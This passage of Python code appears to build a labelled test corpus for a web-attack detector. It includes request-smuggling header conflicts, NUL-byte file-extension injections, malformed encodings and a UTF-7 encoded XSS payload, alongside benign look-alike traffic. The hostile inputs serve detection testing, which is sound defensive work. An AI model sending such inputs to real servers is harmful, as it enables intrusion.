        ("6", "chunked", "3\r\na=b\r\n0\r\n\r\n", False),
        ("0", "chunked", "5\r\nq=abc\r\n0\r\n\r\n", False),
        ("4", "chunked, identity", "0\r\n\r\n", True),
        ("4", "xchunked", "0\r\n\r\n", True),
        ("4", " chunked", "0\r\n\r\n", True),
        ("4", "Chunked", "0\r\n\r\n", True),
    ]:
        h = base()
        h.update({"content-type": form, "content-length": cl, "transfer-encoding": te})
        c.add("protocol", "POST", "/", h, body, ev)
    h = base()
    h.update({"content-type": form, "transfer-encoding": ["chunked", "identity"]})
    c.add("protocol", "POST", "/", h, "3\r\na=b\r\n0\r\n\r\n", True)
    h = base()
    h.update({"content-type": form, "content-length": ["3", "7"]})
    c.add("protocol", "POST", "/", h, "a=b")
    # Transfer-Encoding on a request without a body framing at all.
    h = base()
    h.update({"transfer-encoding": "gzip, chunked", "content-type": form})
    c.add("protocol", "POST", "/", h, "3\r\na=b\r\n0\r\n\r\n", True)

    # NUL bytes.
    for url in ["/?name=abc%00def", "/index.php?file=report.pdf%00.php", "/search?q=%00",
                "/index%00.html"]:
        c.add("protocol", "GET", url, base())
    h = base()
    h["content-type"] = form
    c.add("protocol", "POST", "/comment", h, "name=alice&comment=hello\x00world")
    h = base()
    h["x-custom"] = "abc\x00def"
    c.add("protocol", "GET", "/", h)
    h = base()
    h["content-type"] = "application/json"
    c.add("protocol", "POST", "/api/v1/users", h, '{"name":"bob\\u0000admin"}', True)

    # Malformed percent-encoding.
    for url, ev in [("/search?q=%zz", False), ("/search?q=%", False), ("/search?q=%2", False),
                    ("/path%G1/x", False), ("/search?a=%%41", True), ("/search?q=%u12", True),
                    ("/search?q=%c0%80", True), ("/search?q=%ff%fe%fd", False),
                    ("/search?q=abc%2", False)]:
        c.add("protocol", "GET", url, base(), evasive=ev)
    h = base()
    h["content-type"] = form
    c.add("protocol", "POST", "/comment", h, "a=%ZZ%&b=%")

    # Methods, hosts, ranges, charsets, bodies where none belong.
    for m in ["TRACE", "TRACK", "DEBUG"]:
        c.add("protocol", m, "/", base())
    h = base()
    h["host"] = "127.0.0.1"
    c.add("protocol", "GET", "/", h)
    h = base()
    h["host"] = ""
    c.add("protocol", "GET", "/", h)
    h = base()
    h["host"] = ["example.com", "evil.example"]
    c.add("protocol", "GET", "/", h)
    h = base()
    h["range"] = "bytes=" + ",".join(f"{i}-{i + 1}" for i in range(0, 120, 2))
    c.add("protocol", "GET", "/video.mp4", h)
    h = base()
    h["content-type"] = "application/x-www-form-urlencoded; charset=utf-7"
    c.add("protocol", "POST", "/comment", h, "comment=+ADw-script+AD4-alert(1)+ADw-/script+AD4-", True)
    h = base()
    h["content-type"] = form
    c.add("protocol", "GET", "/search", h, "q=body-on-a-get")
    h = base()
    h["content-type"] = "application/x-evil-format"
    c.add("protocol", "POST", "/api/v1/items", h, "payload")
    h = base()
    h["transfer-encoding "] = "chunked"
    h["content-type"] = form
    c.add("protocol", "POST", "/", h, "3\r\na=b\r\n0\r\n\r\n", True)
    h = base()
    h["x-folded"] = "first\r\n second"
    c.add("protocol", "GET", "/", h, evasive=True)


# --------------------------------------------------------------------------
# Legitimate traffic
# --------------------------------------------------------------------------

NAMES = ["Tim O'Reilly", "Giada D'Angelo", "Seán Ó Briain", "Zoë Saldaña", "Jean-Luc Picard",
         "Mary-Kate O'Neil", "José Núñez", "Françoise Dorléac", "Björk Guðmundsdóttir",
         "Nguyễn Văn An", "李雷", "Анна Ковальчук", "محمد الأحمد", "山田 太郎", "Shaquille O'Neal",
         "D'Arcy McGee", "Conan O'Brien", "Renée Zellweger", "Ana María López-García", "Ng Wei Ling",
         "Jürgen Müller", "Siobhán O'Sullivan", "N'Golo Kanté", "Dwayne \"The Rock\" Johnson"]

STREETS = ["221B Baker St., London NW1 6XE", "1600 Amphitheatre Pkwy, Mountain View, CA 94043",
           "Rue de l'Église 12, 1000 Bruxelles", "Apt #4 - 55 O'Connell Street, Dublin 1",
           "Kurfürstendamm 21, 10719 Berlin", "P.O. Box 1234, Anchorage, AK 99501",
           "3/14 Smith & Wesson Lane, Springfield", "Via dell'Orso 7, 00186 Roma"]

EMAILS = ["tim.oreilly@example.com", "giada+newsletter@example.org", "jose.nunez@example.net",
          "o'brien@example.com", "first.last@sub.example.co.uk", "support@example.com",
          "anna_k@example.ru", "info@xn--mller-kva.example"]

PROSE = [
    "Please select the best option from the list and update your order before Friday.",
    "Drop me a line if you have any questions about the delivery.",
    "The union of sets A and B contains every element that is in A or in B.",
    "I want to delete my account and all my data, where do I do that?",
    "Insert tab A into slot B, then select 'Save' from the menu.",
    "Can you update the table in the meeting room? One leg is broken.",
    "My order from last week - where is it? I selected express shipping.",
    "We'll join you at 7 or 8, whichever is easier for you.",
    "Is there a union representative for the night shift?",
    "The script for the school play is attached; please don't drop any scenes.",
    "Alert: your table reservation for 4 has been confirmed.",
    "I'm having issues with the 'Select all' button on the exports page.",
    "Order by price, then by rating, and show only items that are in stock.",
    "Grant and Benchmark are my two favourite pubs in town.",
    "Great product!! I <3 this shop, 5/5 would buy again :)",
    "The cat sat on the mat and wouldn't move until dinner.",
    "Tom & Jerry, Ben & Jerry's, AT&T and Johnson & Johnson walk into a bar...",
    "If x > 5 and y < 3 then the discount applies, right?",
    "The sleep mode drains the battery faster than I expected.",
    "Can I exchange the shoes for a larger size? The 42 is too small.",
    "Where can I find the terms & conditions for the loyalty program?",
    "Thanks for the quick reply - you're a lifesaver!",
    "I'd like to cancel order #12345 and get a refund, please.",
    "Is the \"Pro\" plan billed monthly or yearly?",
    "The delivery guy left the parcel at my neighbour's door (no. 12).",
    "We are hosting a 'drop-in' session on Tuesday from 2 to 4 pm.",
    "Can someone explain why the sum of 1/2 + 1/4 + 1/8 ... approaches 1?",
    "Our team's motto: commit early, push often, and never drop the ball.",
    "It says 'execute the installer' but nothing happens when I double-click.",
    "Having trouble with the password reset link; it expires after 5 min?",
    "Please don't forget to bring a copy of your passport and/or ID card.",
    "What's the difference between 'shall' and 'will' in contracts?",
    "I've used this for 3 years & it's still <100% perfect, but close.",
    "Meeting moved: from 10:00-11:00 to 13:30-14:30 (CET).",
    "The new update broke dark mode; text is black on black :(",
    "Choose one: (a) refund, (b) store credit, or (c) replacement.",
    "My daughter's school asked us to select a union of two clubs, any tips?",
    "Shipping to the U.S. & Canada takes 5-7 business days.",
    "Where do I insert the SIM card on this model?",
    "Love it! Wish it came in more colours though... maybe teal?",
]

SEARCHES = [
    '"new york" pizza', '"machine learning" -crypto', "rock & roll", "c++ vs c#",
    "what does || mean in javascript", "1/2 cup to grams", "how to center a div",
    'site:example.com "annual report"', "50% cotton t-shirt", "O'Reilly books",
    'tickets for "Les Misérables"', "what is a <noscript> tag", "select dress for wedding",
    "union station chicago parking", "drop shipping business", "sleep number bed",
    "where to buy a table saw", "update windows 11", "insert row excel shortcut",
    "d'angelo live 2024", "mac & cheese recipe", "is 0.999... = 1", "a+b whole square",
    "best laptop < $1000", "x > y meaning", "jack's & jill's bakery", "10 + 10 = ?",
    "how to delete from a list in python", "order by date sql meaning",
    "script writing course", "alert sound iphone", "shell beach california", "exec summary template",
    "system of a down tour", "char siu bao", "cast of the office", "having a baby checklist",
    "group by in pandas", "left join vs inner join", "where is the nearest pharmacy",
]

FORUM_POSTS = [
    ("How do I reverse a list in Python?",
     "I have this:\n\n```python\nitems = [1, 2, 3]\nprint(items[::-1])\n```\n\nIs there something faster than slicing? "
     "`reversed(items)` returns an iterator, not a list.", ["python", "list"]),
    ("Why does [] == false return true?",
     "Can someone explain this?\n\n```js\nif (a < b && b > 0) {\n  console.log([] == false); // true\n}\n```\n"
     "I thought an empty array was truthy.", ["javascript", "coercion"]),
    ("Backup script fails with 'argument list too long'",
     "My backup script fails:\n\n```bash\nfor f in *.log; do gzip \"$f\"; done\n```\n\nand before that I ran "
     "`ls /var/log | wc -l` which says 120000. Any ideas?", ["bash", "linux"]),
    ("Slow GROUP BY query on a large orders table",
     "I have a query like\n\n```sql\nSELECT name, COUNT(*) FROM orders WHERE created_at > '2024-01-01'\n"
     "GROUP BY name HAVING COUNT(*) > 5;\n```\n\nbut it takes 40 seconds. Should I add an index on created_at, "
     "or on (created_at, name)?", ["sql", "postgresql", "performance"]),
    ("Make a div fill the page height",
     "How do I make a `<div>` fill the page height? I tried `height: 100%` on the div but it only grows to its "
     "content.", ["css", "html"]),
    ("Bit shifting in C",
     "```c\n#include <stdio.h>\nint main(void) {\n    printf(\"%d\\n\", 1 << 3);\n    return 0;\n}\n```\n"
     "prints 8. Why is `1 << 31` undefined for int?", ["c"]),
    ("Email validation regex too strict?",
     "I use `^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$` and it rejects addresses with an apostrophe like "
     "o'brien@example.com. Is that valid per the RFC?", ["regex", "email"]),
    ("Docker volume permissions",
     "Running `docker run -it --rm -v $(pwd):/app -w /app node:20 npm test` creates files owned by root. "
     "How do I run as my own user?", ["docker"]),
    ("Rust: collect into a Vec",
     "```rust\nfn main() {\n    let v: Vec<i32> = (1..=10).filter(|x| x % 2 == 0).collect();\n"
     "    println!(\"{:?}\", v);\n}\n```\nIs `collect::<Vec<_>>()` preferred?", ["rust"]),
    ("Java generics question",
     "Why does `List<Object> l = new ArrayList<String>();` not compile while "
     "`List<? extends Object> l = new ArrayList<String>();` does?", ["java", "generics"]),
    ("Escaping output in PHP templates",
     "Is `echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8');` enough to escape user names such as "
     "D'Angelo in an attribute?", ["php", "security"]),
    ("Excel formula returns #VALUE!",
     "My formula `=IF(A1>10, \"high\", \"low\")` works but `=IF(A1>10 AND B1<5, 1, 0)` gives an error.",
     ["excel"]),
    ("Kubernetes readiness probe config",
     "```yaml\nreadinessProbe:\n  httpGet:\n    path: /healthz\n    port: 8080\n  initialDelaySeconds: 5\n```\n"
     "The pod never becomes ready. Logs say connection refused.", ["kubernetes"]),
    ("Git: undo the last commit but keep changes",
     "I ran `git commit -am 'wip'` by mistake. Is `git reset --soft HEAD~1` the right fix, "
     "or `git revert`?", ["git"]),
    ("CSS child selector not applying",
     "```css\n.btn:hover > span { color: #333; }\n```\nThe span inside the button doesn't change colour "
     "on hover in Safari.", ["css"]),
    ("Which JOIN should I use?",
     "Tables: users(id, name) and orders(id, user_id). I want users even if they have no orders. "
     "Is it `users LEFT JOIN orders ON orders.user_id = users.id`?", ["sql", "join"]),
    ("Python f-string with dict",
     "```python\nuser = {'name': 'Ann'}\nprint(f\"Hello {user['name']}!\")\n```\nworks, but with double quotes "
     "inside it fails on 3.11.", ["python"]),
    ("Install script from the docs",
     "The docs say to run\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\n```\n\nIs it safe to pipe "
     "into sh, or should I download it and read it first?", ["shell", "security"]),
    ("Math: solving a < b inequalities",
     "If 2x + 3 < 7 then x < 2, but what happens when I multiply both sides by -1? Then -x > -2?",
     ["math"]),
    ("TypeScript union types",
     "```ts\ntype Result = { ok: true; value: number } | { ok: false; error: string };\n```\n"
     "How do I narrow it in an `if`?", ["typescript"]),
    ("React useEffect runs twice",
     "```jsx\nuseEffect(() => {\n  fetch('/api/items').then(r => r.json()).then(setItems);\n}, []);\n```\n"
     "In dev mode the request is sent twice.", ["react"]),
    ("nginx location matching order",
     "Does `location ~* \\.(jpg|png)$ { expires 30d; }` take precedence over `location /images/ { }`?",
     ["nginx"]),
    ("Go: iterate over a map in order",
     "```go\nkeys := make([]string, 0, len(m))\nfor k := range m {\n\tkeys = append(keys, k)\n}\nsort.Strings(keys)\n```\n"
     "Is there a simpler way in Go 1.22?", ["go"]),
    ("Awk one-liner to sum a column",
     "`awk -F, '{ s += $3 } END { print s }' sales.csv` prints nothing. The file has Windows line endings.",
     ["awk", "shell"]),
    ("HTML entities in titles",
     "Our CMS shows `&amp;` instead of & in titles like \"Fish &amp; Chips\". Are we escaping twice?",
     ["html", "cms"]),
]

FORUM_REPLIES = [
    "Thanks, that worked for me!",
    "Have you tried running it with `--verbose`? The output usually tells you what's wrong.",
    "+1, same problem here on Ubuntu 22.04.",
    "Marking this as solved - the index on (created_at, name) brought it down to 80 ms.",
    "You can also use `sorted(items, reverse=True)` if you need a new list.",
    "Check the docs for `select_related` - it avoids the N+1 queries.",
    "In my experience, x <= 0 is the edge case people forget.",
    "Don't pipe curl into sh on production boxes; review the script first.",
]

JSON_DOCS = [
    lambda r: {"cart_id": "c_" + token(r, 8, HEXD), "items": [{"sku": "TSHIRT-M-BLK", "qty": 2, "price": 19.99},
               {"sku": "MUG-001", "qty": 1, "price": 8.5}], "coupon": None, "gift": False},
    lambda r: {"notifications": {"email": True, "sms": False, "push": {"enabled": True, "quiet_hours": [22, 7]}},
               "theme": "dark", "language": r.choice(["de-DE", "en-GB", "ja-JP"])},
    lambda r: {"event": "page_view", "props": {"path": "/pricing", "referrer": "https://www.google.com/",
               "screen": {"w": 1920, "h": 1080}, "dpr": 2}, "ts": 1718000000123 + r.randint(0, 10**6)},
    lambda r: {"lat": round(r.uniform(-60, 60), 5), "lng": round(r.uniform(-170, 170), 5), "radius_km": 2.5,
               "filters": {"open_now": True, "cuisine": ["thai", "vietnamese"]}},
    lambda r: {"title": "Quarterly report", "due": "2024-07-01", "assignees": [17, 42],
               "labels": ["finance", "q2"], "estimate_hours": 6.5, "done": False},
    lambda r: {"user": {"first_name": "Giada", "last_name": "D'Angelo", "email": "giada@example.org",
               "address": {"street": "Via dell'Orso 7", "city": "Roma", "zip": "00186"}}},
    lambda r: {"query": "running shoes", "filters": {"size": [42, 42.5], "price": {"min": 50, "max": 120},
               "brands": ["Asics", "Brooks"]}, "sort": "price_asc", "page": 1},
    lambda r: {"message": r.choice(PROSE), "conversation_id": token(r, 12), "attachments": []},
    lambda r: {"rating": r.randint(1, 5), "review": r.choice(PROSE), "would_recommend": True},
    lambda r: {"ops": [{"op": "replace", "path": "/email", "value": "new@example.com"},
                       {"op": "add", "path": "/tags/-", "value": "vip"}]},
    lambda r: {"metrics": [{"name": "cpu", "value": r.random(), "tags": {"host": "web-1"}},
                           {"name": "mem", "value": r.randint(100, 900), "tags": {"host": "web-1"}}]},
    lambda r: {"amount": 4999, "currency": "EUR", "description": "Order #10423 - 2x T-shirt",
               "metadata": {"order_id": "10423", "customer": "O'Neil"}},
    lambda r: {"text": "Meeting notes: we agreed to drop the legacy API and select Postgres 16.",
               "mentions": ["@ana", "@tim"], "pinned": False},
    lambda r: {"schedule": {"cron": "*/15 * * * *", "timezone": "Europe/Berlin"}, "enabled": True},
    lambda r: {"answers": {"q1": "yes", "q2": ["a", "c"], "q3": 7, "comment": "x > 5 is fine for me"}},
]

API_PATHS = ["/api/v1/cart", "/api/v1/settings", "/api/v1/events", "/api/v1/places/search",
             "/api/v1/tasks", "/api/v1/profile", "/api/v1/products/search", "/api/v1/messages",
             "/api/v1/reviews", "/api/v1/users/42", "/api/v1/metrics", "/api/v1/payments",
             "/api/v1/notes", "/api/v1/jobs/7", "/api/v1/surveys/3/answers"]

GRAPHQL_QUERIES = [
    ("GetUser", "query GetUser($id: ID!) { user(id: $id) { name email posts(first: 10) { edges { node { title } } } } }",
     {"id": "42"}),
    ("Search", "query Search($q: String!, $first: Int = 20) { search(query: $q, first: $first) { "
     "totalCount nodes { ... on Product { id name price } } } }", {"q": "O'Reilly mug"}),
    ("AddToCart", "mutation AddToCart($input: AddToCartInput!) { addToCart(input: $input) { cart { id "
     "items { quantity } } errors { field message } } }", {"input": {"sku": "MUG-001", "quantity": 2}}),
    ("UpdateProfile", "mutation UpdateProfile($bio: String) { updateProfile(bio: $bio) { ok } }",
     {"bio": "Backend dev. I <3 SQL & coffee. Select your battles."}),
    ("Feed", "query Feed { feed(first: 5, orderBy: {field: CREATED_AT, direction: DESC}) { id title "
     "author { name } } }", {}),
    ("Orders", "query Orders($where: OrderFilter) { orders(where: $where) { id total status } }",
     {"where": {"status": {"in": ["PAID", "SHIPPED"]}, "total": {"gt": 10}}}),
    ("DeleteDraft", "mutation DeleteDraft($id: ID!) { deleteDraft(id: $id) { id } }", {"id": "d_91"}),
    ("Viewer", "{ viewer { login repositories(first: 3) { nodes { name stargazerCount } } } }", None),
]

UPLOAD_FILES = [
    ("holiday photo (1).jpg", "image/jpeg"), ("Résumé_2024.pdf", "application/pdf"),
    ("report-Q3.final.v2.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("notes.txt", "text/plain"), ("Screenshot 2024-05-01 at 10.15.32.png", "image/png"),
    ("报告.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("O'Brien contract.pdf", "application/pdf"), ("data.csv", "text/csv"), ("README.md", "text/markdown"),
    ("avatar.webp", "image/webp"), ("invoice #123.pdf", "application/pdf"),
    ("mix & match.mp3", "audio/mpeg"), ("config.json", "application/json"), ("слайды.pptx",
    "application/vnd.openxmlformats-officedocument.presentationml.presentation"), ("calendar.ics", "text/calendar"),
    ("contact.vcf", "text/vcard"), ("logo.svg", "image/svg+xml"), ("backup-2024-06-01.tar.gz", "application/gzip"),
]

I18N = [
    "北京烤鸭 做法", "東京 ラーメン おすすめ", "مطاعم قريبة مني", "купить билеты в Москву", "서울 날씨",
    "दिल्ली मौसम", "Ελληνικά μαθήματα", "שלום עולם", "ร้านกาแฟ ใกล้ฉัน", "🍕 near me", "I ❤️ NY",
    "Phở bò Hà Nội", "Ça va? Très bien, merci!", "Größe 42 Schuhe", "¿Dónde está la biblioteca?",
    "日本語の本を探しています", "如何学习编程？", "Привет, как дела?", "مرحبا بالعالم", "😂😂😂 so funny",
    "Zürich → München", "naïve café résumé", "İstanbul otelleri", "Łódź pogoda", "Ísland ferðir",
]

CODE_SNIPPETS_SHELL = [
    "tar -czf backup.tar.gz ./data && echo done",
    "grep -rn \"TODO\" src/ | wc -l",
    "find . -name '*.pyc' -delete",
    "ps aux | grep nginx",
    "cat ~/.ssh/id_ed25519.pub",
    "sudo systemctl restart postgresql",
]


def gen_legit(rng):
    c = Corpus()

    # --- browsing: pages and assets with full browser headers -------------
    pages = ["/", "/pricing", "/about", "/blog", "/blog/2024/05/how-we-scaled-postgres", "/contact",
             "/products/espresso-machine-x1", "/category/shoes/running", "/careers", "/help/shipping",
             "/en-gb/stores/london", "/docs/getting-started", "/account", "/account/orders", "/cart",
             "/checkout/shipping", "/wishlist", "/news/2024-06-01", "/faq", "/terms"]
    assets = [("/static/app.3f9a2c.min.js", "script", "*/*"), ("/static/main.8b1d0e.css", "style", "text/css,*/*;q=0.1"),
              ("/images/hero@2x.webp", "image", "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"),
              ("/fonts/inter-var.woff2", "font", "*/*"), ("/favicon.ico", "image", "image/*,*/*;q=0.8"),
              ("/manifest.webmanifest", "manifest", "*/*")]
    for i in range(60):
        ref = None if i % 3 == 0 else "https://example.com" + rng.choice(pages)
        h = browser_headers(rng, "document", referer=ref, cookie=(i % 4 != 0))
        q = ""
        if i % 5 == 1:
            q = "?page=" + str(rng.randint(2, 9))
        elif i % 5 == 2:
            q = "?sort=price_asc&color=" + rng.choice(["black", "navy", "olive"]) + "&size=M"
        c.add("legit-browse", "GET", pages[i % len(pages)] + q, h)
    for i in range(24):
        path, dest, acc = assets[i % len(assets)]
        h = browser_headers(rng, "any", referer="https://example.com/", cookie=(i % 2 == 0))
        h["accept"] = acc
        h["sec-fetch-dest"] = dest
        h["sec-fetch-mode"] = "no-cors"
        c.add("legit-browse", "GET", path, h)
    for i in range(6):
        h = browser_headers(rng, "document")
        c.add("legit-browse", "HEAD" if i % 2 else "OPTIONS", "/" if i % 2 else "/api/v1/cart", h)

    # --- search queries ---------------------------------------------------
    for i, s in enumerate(SEARCHES):
        h = browser_headers(rng, "document", referer="https://example.com/")
        enc = enc_std if i % 3 else enc_pct20
        c.add("legit-search", "GET", f"/search?q={enc(s)}" + ("&page=2" if i % 7 == 0 else ""), h)
    for i, s in enumerate(SEARCHES[:30]):
        h = browser_headers(rng, "json", referer="https://example.com/search")
        c.add("legit-search", "GET", f"/api/v1/suggest?term={enc_pct20(s[: 3 + i % 9])}&limit=8", h)
    for i, s in enumerate(SEARCHES[::3]):
        h = browser_headers(rng, "json")
        h["content-type"] = "application/json"
        h["origin"] = "https://example.com"
        c.add("legit-search", "POST", "/api/v1/search",
              h, jdump({"query": s, "filters": {"in_stock": True}, "page": 1, "per_page": 24}))

    # --- forms: names, addresses, emails, prices --------------------------
    for i in range(48):
        name = NAMES[i % len(NAMES)]
        h = browser_headers(rng, "document", referer="https://example.com/checkout/shipping")
        h["content-type"] = "application/x-www-form-urlencoded"
        h["origin"] = "https://example.com"
        kind = i % 4
        if kind == 0:
            body = form_body([("csrfmiddlewaretoken", token(rng, 64)), ("full_name", name),
                              ("street", rng.choice(STREETS)), ("email", rng.choice(EMAILS)),
                              ("phone", "+49 (0)30 1234-5678"), ("save_address", "on")])
            c.add("legit-form", "POST", "/checkout/shipping", h, body)
        elif kind == 1:
            body = form_body([("first_name", name.split()[0]), ("last_name", name.split()[-1]),
                              ("company", rng.choice(["Smith & Sons Ltd.", "O'Hara Bakery", "Müller GmbH",
                                                      "AT&T", "Procter & Gamble"])),
                              ("newsletter", "1")])
            c.add("legit-form", "POST", "/account/profile", h, body)
        elif kind == 2:
            body = form_body([("amount", rng.choice(["19.99", "1,299.00", "0.50", "$25", "€ 9,90"])),
                              ("note", rng.choice(["Happy birthday, Mum! x", "Rent - May/June", "50% of dinner",
                                                   "For the O'Reilly books (2x)", "Tickets #3 & #4"])),
                              ("recipient", rng.choice(EMAILS))])
            c.add("legit-form", "POST", "/wallet/send", h, body)
        else:
            body = form_body([("username", rng.choice(["tim_oreilly", "giada.dangelo", "j.nunez"])),
                              ("password", rng.choice(["correct horse battery staple", "P@ssw0rd!2024#",
                                                       "It's-a-secret;really", "x<y>z&w=1"])),
                              ("remember", "on")])
            c.add("legit-form", "POST", "/login", h, body)

    # --- prose: comments, reviews, support messages -----------------------
    for i, text in enumerate(PROSE):
        h = browser_headers(rng, "document", referer="https://example.com/products/espresso-machine-x1")
        h["content-type"] = "application/x-www-form-urlencoded"
        h["origin"] = "https://example.com"
        body = form_body([("csrf", token(rng, 40)), ("author", NAMES[i % len(NAMES)]), ("rating", str(1 + i % 5)),
                          ("comment", text)])
        c.add("legit-prose", "POST", "/products/espresso-machine-x1/reviews", h, body)
    for i, text in enumerate(PROSE[::2]):
        h = browser_headers(rng, "json", referer="https://example.com/help")
        h["content-type"] = "application/json"
        h["x-csrf-token"] = token(rng, 40)
        c.add("legit-prose", "POST", "/api/v1/support/tickets", h,
              jdump({"subject": text[:40], "body": text + "\n\nThanks,\n" + NAMES[i % len(NAMES)],
                     "priority": "normal", "order_ref": f"#{10000 + i}"}))

    # --- forum posts with code --------------------------------------------
    for i, (title, body_md, tags) in enumerate(FORUM_POSTS):
        h = browser_headers(rng, "document", referer="https://example.com/forum/new")
        h["content-type"] = "application/x-www-form-urlencoded"
        h["origin"] = "https://example.com"
        c.add("legit-forum", "POST", "/forum/posts", h,
              form_body([("title", title), ("body", body_md), ("tags", ",".join(tags))]))
        h = browser_headers(rng, "json", referer="https://example.com/forum/new")
        h["content-type"] = "application/json"
        c.add("legit-forum", "POST", "/api/v1/forum/posts", h,
              jdump({"post": {"title": title, "body_markdown": body_md, "tags": tags, "draft": i % 5 == 0}}))
        h = browser_headers(rng, "document", referer=f"https://example.com/forum/t/{1000 + i}")
        mp, ct = multipart(rng, [("title", title), ("body", body_md), ("notify", "1")])
        h["content-type"] = ct
        c.add("legit-forum", "POST", f"/forum/t/{1000 + i}/edit", h, mp)
    for i, reply in enumerate(FORUM_REPLIES):
        h = browser_headers(rng, "json", referer=f"https://example.com/forum/t/{1000 + i}")
        h["content-type"] = "application/json"
        c.add("legit-forum", "POST", f"/api/v1/forum/t/{1000 + i}/replies", h, jdump({"body": reply}))
    for i, cmd in enumerate(CODE_SNIPPETS_SHELL):
        h = browser_headers(rng, "document")
        c.add("legit-forum", "GET", "/forum/search?q=" + enc_std(cmd), h)

    # --- JSON APIs --------------------------------------------------------
    for i in range(75):
        doc = JSON_DOCS[i % len(JSON_DOCS)](rng)
        path = API_PATHS[i % len(API_PATHS)]
        if i % 3 == 0:
            jwt = make_jwt(rng, {"sub": str(rng.randint(1000, 9999)), "name": rng.choice(NAMES[:8]),
                                 "iat": 1718000000, "exp": 1718003600, "scope": "read write"})
            h = api_headers(rng, auth="Bearer " + jwt)
        else:
            h = browser_headers(rng, "json", referer="https://example.com/app")
            h["origin"] = "https://example.com"
        h["content-type"] = "application/json"
        method = "POST"
        if i % 8 == 3:
            method = "PUT"
        elif i % 8 == 5:
            method = "PATCH"
        c.add("legit-api", method, path, h, jdump(doc))
    for i in range(15):
        h = api_headers(rng, auth="Bearer " + make_jwt(rng, {"sub": str(i), "role": "user"}))
        m = "DELETE" if i % 5 == 4 else "GET"
        c.add("legit-api", m, rng.choice(["/api/v1/orders?status=shipped&limit=50&offset=100",
                                           "/api/v1/users/42/addresses", "/api/v1/items?ids=1,2,3,17&fields=id,name,price",
                                           "/api/v1/notes/9f1c2", "/api/v1/reports?from=2024-01-01&to=2024-03-31&tz=Europe%2FBerlin"]), h)

    # --- GraphQL ----------------------------------------------------------
    for i in range(32):
        name, q, variables = GRAPHQL_QUERIES[i % len(GRAPHQL_QUERIES)]
        if i % 4 == 3:
            h = browser_headers(rng, "json")
            url = f"/graphql?query={enc_pct20(q)}"
            if variables:
                url += f"&variables={enc_pct20(jdump(variables))}"
            c.add("legit-graphql", "GET", url + f"&operationName={name}", h)
        else:
            h = browser_headers(rng, "json", referer="https://example.com/app") if i % 2 else \
                api_headers(rng, auth="Bearer " + make_jwt(rng, {"sub": str(i)}))
            h["content-type"] = "application/json"
            payload = {"operationName": name, "query": q, "variables": variables}
            c.add("legit-graphql", "POST", "/graphql", h, jdump(payload))

    # --- uploads ----------------------------------------------------------
    for i in range(40):
        fname, ctype = UPLOAD_FILES[i % len(UPLOAD_FILES)]
        if ctype.startswith("text/") or ctype in ("application/json",):
            content = {"text/plain": "Shopping list:\n- milk\n- eggs & flour\n- 2x O'Reilly's soda bread\n",
                       "text/csv": "id,name,price\n1,\"Mug, large\",8.50\n2,T-shirt,19.99\n",
                       "text/markdown": "# Project\n\nRun `make test` before pushing. Select the *right* branch!\n",
                       "text/calendar": "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Team lunch\r\n"
                                        "DTSTART:20240612T120000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
                       "text/vcard": "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Giada D'Angelo\r\n"
                                     "EMAIL:giada@example.org\r\nEND:VCARD\r\n",
                       "application/json": "{\"retries\": 3, \"verbose\": false, \"paths\": [\"/tmp/cache\"]}\n",
                       }[ctype]
        elif ctype == "image/svg+xml":
            content = ('<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24">'
                       '<circle cx="12" cy="12" r="10" fill="#0a7"/></svg>\n')
        else:
            content = "(binary data omitted from the corpus: " + token(rng, 24) + ")"
        h = browser_headers(rng, "json" if i % 2 else "document", referer="https://example.com/files")
        parts = [("folder", rng.choice(["Documents", "Photos/2024", "Shared with me"])),
                 ("description", rng.choice(["Q3 numbers", "holiday pics!", "contract v2 (signed)",
                                             "notes from Monday's call", ""])),
                 ("file", fname, ctype, content)]
        body, ct = multipart(rng, parts)
        h["content-type"] = ct
        c.add("legit-upload", "POST", "/files/upload", h, body)

    # --- tracking parameters ----------------------------------------------
    campaigns = ["spring_sale_2024", "newsletter-june", "brand|exact", "retargeting_cart",
                 "black friday 2024", "launch+promo"]
    for i in range(40):
        params = [("utm_source", rng.choice(["google", "facebook", "newsletter", "bing", "linkedin"])),
                  ("utm_medium", rng.choice(["cpc", "email", "social", "display"])),
                  ("utm_campaign", rng.choice(campaigns)),
                  ("utm_term", rng.choice(["running shoes", "o'neill wetsuit", "cheap flights", "50% off"])),
                  ("utm_content", rng.choice(["ad_variant_b", "hero-banner", "footer_link"]))]
        if i % 3 == 0:
            params.append(("gclid", "Cj0KCQjw" + token(rng, 80, ALNUM + "-_")))
            params.append(("gad_source", "1"))
        elif i % 3 == 1:
            params.append(("fbclid", "IwAR" + token(rng, 60, ALNUM + "-_")))
        else:
            params.append(("msclkid", token(rng, 32, HEXD)))
            params.append(("_hsenc", "p2ANqtz-" + token(rng, 70, ALNUM + "-_")))
            params.append(("mc_eid", token(rng, 10, HEXD)))
        q = "&".join(f"{k}={enc_std(v)}" for k, v in params)
        h = browser_headers(rng, "document", referer=rng.choice(["https://www.google.com/", "https://l.facebook.com/",
                                                                  None, "android-app://com.google.android.gm/"]),
                            cookie=(i % 2 == 0))
        c.add("legit-tracking", "GET", rng.choice(pages[:10]) + "?" + q, h)

    # --- non-Latin text -----------------------------------------------------
    for i, text in enumerate(I18N):
        h = browser_headers(rng, "document")
        c.add("legit-i18n", "GET", "/search?q=" + enc_std(text), h)
        h = browser_headers(rng, "json")
        h["content-type"] = "application/json"
        c.add("legit-i18n", "POST", "/api/v1/messages", h,
              jdump({"to": rng.choice(NAMES), "text": text, "lang_hint": "auto"}))
    for slug in ["東京", "Москва", "القاهرة", "Zürich", "São_Paulo", "Ελλάδα", "서울", "😀"]:
        h = browser_headers(rng, "document")
        c.add("legit-i18n", "GET", "/wiki/" + enc_pct20(slug), h)
    for i, name in enumerate(NAMES[9:17]):
        h = browser_headers(rng, "document")
        h["content-type"] = "application/x-www-form-urlencoded"
        c.add("legit-i18n", "POST", "/account/profile", h,
              form_body([("display_name", name), ("bio", I18N[i])]))

    # --- paths with dots that are not traversal ----------------------------
